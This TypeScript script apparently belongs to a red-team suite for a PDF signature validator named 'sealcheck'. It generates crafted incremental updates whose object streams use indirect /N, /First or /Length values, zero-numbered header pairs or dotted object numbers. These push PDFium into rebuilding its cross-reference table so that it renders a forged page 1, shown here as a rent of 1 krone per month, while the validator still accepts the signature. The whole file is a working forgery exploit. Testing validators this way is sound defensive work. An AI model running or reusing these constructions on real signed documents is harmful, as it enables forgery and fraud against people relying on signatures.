// a24: a PDFium rebuild trigger sealcheck accepts? An LTV update (xref stream) that re-states the catalog (/DSS added)
// inside an object stream S whose /N is an indirect reference to a top-level integer object. sealcheck follows an
// indirect /N one step (document.ts headerNumber: a16 X2 "every reader resolves one"); PDFium's IsObjectsStreamObject
// takes GetNumberFor("N") without resolving it (?), so the catalog would be missing for PDFium -> GetRoot() fails ->
// RebuildCrossRef, which reads object streams it finds (a23 objstm-unlisted: AddCompressed over a top-level entry).
// forge: a second, listed object stream T (direct /N) whose header names page 1's number (not listed compressed there)
// with a forged page 1, and its content stream B (listed, referenced by nothing sealcheck walks).
// modes: honest (direct /N, no forge), indirect (indirect /N, no forge), forge (direct /N + T), attack (indirect + T),
//        first (indirect /First instead of /N, + T)
//        zero-pair (S begins with a pair naming object 0, T); dot, dot-gen, dot-only (below), zero-dot (zero-pair's trigger, dot's page)
//   npx tsx scripts/attack-s19/catalog-objstm.ts <honest|indirect|forge|attack|first|zero-pair|dot|dot-gen|dot-only|zero-dot|len>   REAL=0 for samples/valid
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const MODES = ["honest", "indirect", "forge", "attack", "first", "zero-pair", "dot", "dot-gen", "dot-only", "zero-dot", "len"];
const mode = process.argv[2] ?? "attack";
if (!MODES.includes(mode)) throw new Error(`usage: <${MODES.join("|")}>`);
const indirectN = mode === "indirect" || mode === "attack" || mode === "dot" || mode === "dot-gen";
// dot, dot-gen: no T; the forged page 1 written top-level, unlisted, as `4. 0 obj` or `4 0. obj`: PDFium's rebuild takes a
// word of numeric characters ("4.", "0.") as a number (FXSYS_atoui), the scan wants digits then white space. dot-only:
// the same bytes with a direct /N (no trigger): the scan's verdict on them.
const dot = mode.startsWith("dot") || mode === "zero-dot";
const indirectFirst = mode === "first";
const forge = mode === "forge" || mode === "attack" || mode === "first" || mode === "zero-pair" || mode === "len";
// len: S's /Length a reference to a top-level integer (/N, /First direct), T: does PDFium read S so?
const indirectLen = mode === "len";
// zero-pair: S (direct /N 3) begins with a header pair naming object 0 (`0 0`, a `null`): PDFium's CPDF_ObjectStream::Init
// skips a pair whose number is 0, so its indices shift by one and the catalog's entry (S, 1) finds another number.
const zeroPair = mode === "zero-pair" || mode === "zero-dot";
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const rootRef = rawGet(view.trailer, "Root");
if (rootRef?.kind !== "ref") throw new Error("no /Root");
const catalog = view.object(rootRef)!.value;
if (catalog.kind !== "dict") throw new Error("catalog not a dict");
const alloc = new NumberAllocator(doc);
const [DSS, NUM, S, T, B, X] = [alloc.take(), alloc.take(), alloc.take(), alloc.take(), alloc.take(), alloc.take()];
const catText = serialize(catalog).replace(/>>\s*$/, ` /DSS ${DSS} 0 R >>`);
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const off = new Map<number, number>();
const obj = (num: number, body: string) => {
  off.set(num, at);
  push(latin(`${num} 0 obj\n${body}\nendobj\n`));
};
// S: the catalog and the DSS.
const o1 = `${catText}\n`;
const o2 = "<< /Type /DSS /Certs [] >>";
const z = zeroPair ? "null\n" : "";
const hdrS = `${zeroPair ? "0 0 " : ""}${rootRef.num} ${z.length} ${DSS} ${z.length + o1.length} `;
const dataS = hdrS + z + o1 + o2;
if (indirectN) obj(NUM, "2");
if (indirectFirst) obj(NUM, String(hdrS.length));
if (indirectLen) obj(NUM, String(dataS.length));
obj(
  S,
  `<< /Type /ObjStm /N ${indirectN ? `${NUM} 0 R` : zeroPair ? "3" : "2"} /First ${indirectFirst ? `${NUM} 0 R` : hdrS.length} /Length ${indirectLen ? `${NUM} 0 R` : dataS.length} >>\nstream\n${dataS}\nendstream`,
);
if (forge || dot) {
  const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
  obj(B, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
  const page = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
  const hdrT = `${p.num} 0 `;
  if (forge) obj(T, `<< /Type /ObjStm /N 1 /First ${hdrT.length} /Length ${hdrT.length + page.length} >>\nstream\n${hdrT}${page}\nendstream`);
  else push(latin(`${mode === "dot-gen" ? `${p.num} 0.` : `${p.num}. 0`} obj\n${page}\nendobj\n`));
}
const row = (type: number, f2: number, f3: number) => [type, (f2 >>> 24) & 0xff, (f2 >>> 16) & 0xff, (f2 >>> 8) & 0xff, f2 & 0xff, (f3 >> 8) & 0xff, f3 & 0xff];
off.set(X, at);
const rowsBy = new Map<number, number[]>();
rowsBy.set(rootRef.num, row(2, S, zeroPair ? 1 : 0));
rowsBy.set(DSS, row(2, S, zeroPair ? 2 : 1));
for (const [n, o] of off) rowsBy.set(n, row(1, o, 0));
const nums = [...rowsBy.keys()].sort((a, b) => a - b);
const index: number[] = [];
for (const n of nums) {
  if (index.length && index.at(-2)! + index.at(-1)! === n) index[index.length - 1]!++;
  else index.push(n, 1);
}
const rows = nums.flatMap((n) => rowsBy.get(n)!);
push([
  ...latin(
    `${X} 0 obj\n<< /Type /XRef /Size ${X + 1} /W [1 4 2] /Index [${index.join(" ")}] ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} /Length ${rows.length} >>\nstream\n`,
  ),
  ...rows,
  ...latin(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`),
]);
judge(`catalog-objstm ${mode}`, save(work(`s19-catalog-objstm-${mode}`), "archive.pdf", Uint8Array.from(parts.flat())));
